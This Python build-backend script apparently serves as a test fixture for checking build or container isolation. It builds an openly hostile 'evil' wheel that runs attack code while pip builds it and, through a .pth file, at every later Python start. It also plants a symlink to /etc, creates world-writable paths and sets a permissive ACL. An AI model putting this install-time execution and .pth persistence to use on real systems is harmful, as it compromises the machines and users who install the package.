# SPDX-License-Identifier: Apache-2.0
"""Builds a hostile package: code of it runs while pip builds it, and at each later start of a Python
that has it, by its .pth."""
import os
import struct
import zipfile

import attack

NOBODY = 0xFFFFFFFF
HERE = os.path.dirname(os.path.abspath(__file__))


def build_wheel(directory, config_settings=None, metadata_directory=None):
    secret, port = open(os.path.join(HERE, "where")).read().split()
    with open("/usr/local/attacked-by-pip", "w") as out:
        attack.main(secret, port, out)
    # A link that leads whoever follows it, as root and outside, out of the image.
    os.makedirs("/usr/local/lib/python3.99", exist_ok=True)
    os.symlink("/etc", "/usr/local/lib/linked")
    # What anybody may write to, by its mode or by an access list: the owner, one more user (of the
    # build's own, others have no number here), the group, all that the list may give, others.
    os.mkdir("/usr/local/lib/open")
    os.chmod("/usr/local/lib/open", 0o1777)
    with open("/usr/local/lib/open/to-all", "w"):
        os.chmod("/usr/local/lib/open/to-all", 0o666)
    with open("/usr/local/lib/open/to-one", "w"):
        os.setxattr("/usr/local/lib/open/to-one", "system.posix_acl_access", struct.pack("<I", 2) + b"".join(
            struct.pack("<HHI", tag, rights, user) for tag, rights, user in (
                (0x01, 6, NOBODY), (0x02, 6, 0), (0x04, 4, NOBODY), (0x10, 6, NOBODY), (0x20, 4, NOBODY))))
    code = open(os.path.join(HERE, "attack.py")).read()
    with zipfile.ZipFile(os.path.join(directory, "evil-1.0-py3-none-any.whl"), "w") as wheel:
        wheel.writestr("evil.pth", "import evil\n")
        wheel.writestr("evil.py", code.replace('if __name__ == "__main__":', "if True:").replace(
            "main(sys.argv[1], sys.argv[2], sys.stdout)", "main(%r, %r, sys.stderr)" % (secret, port)))
        wheel.writestr("evil-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")
        wheel.writestr("evil-1.0.dist-info/WHEEL",
                       "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr("evil-1.0.dist-info/RECORD", "")
    return "evil-1.0-py3-none-any.whl"
